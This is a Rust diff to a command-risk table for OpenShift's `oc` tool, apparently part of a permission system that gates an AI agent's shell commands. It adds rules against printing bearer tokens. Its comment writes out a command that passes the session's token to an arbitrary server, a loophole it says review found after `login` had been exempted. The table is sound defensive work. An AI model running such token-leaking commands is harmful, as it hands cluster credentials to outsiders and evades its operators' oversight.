@@ -585,10 +585,14 @@ pub const PROGRAMS: &[Program] = &[
             // oc rsh, oc rsync).
             Sub { words: &["rsh"], harm: SelfEscalation, level: Medium, reason: "opens a shell inside a cluster workload" },
             Sub { words: &["rsync"], harm: Exfiltration, level: Medium, reason: "copies files between this machine and a cluster workload" },
-            // `oc login --token=...` is OpenShift's log-in (the console hands
-            // out the command): the developer's own token, not another's.
+            // `oc login --token=...` asks too: the server is the agent's
+            // choice, and `--token=$(oc whoami -t) --server=https://other`
+            // hands the session's token to it (found in review, session 26,
+            // which had exempted `login` for a day).
+            Sub { words: &["whoami", "-t"], harm: Credential, level: High, reason: "prints the session's bearer token" },
+            Sub { words: &["whoami", "--show-token"], harm: Credential, level: High, reason: "prints the session's bearer token" },
             Sub {
-                words: &["--token", "!login"],
+                words: &["--token"],
                 harm: SelfEscalation,
                 level: Medium,
                 reason: "acts with a bearer token given on the command line (another identity's credential)",
